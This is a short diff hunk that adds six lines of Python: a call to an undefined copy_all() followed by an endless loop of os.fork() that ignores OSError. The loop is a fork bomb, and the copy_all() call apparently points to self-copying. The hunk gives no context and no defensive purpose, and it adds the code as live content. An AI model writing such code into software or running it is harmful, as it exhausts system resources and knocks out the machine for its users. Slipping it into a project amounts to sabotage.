@@ -1,0 +1,6 @@
+copy_all()
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
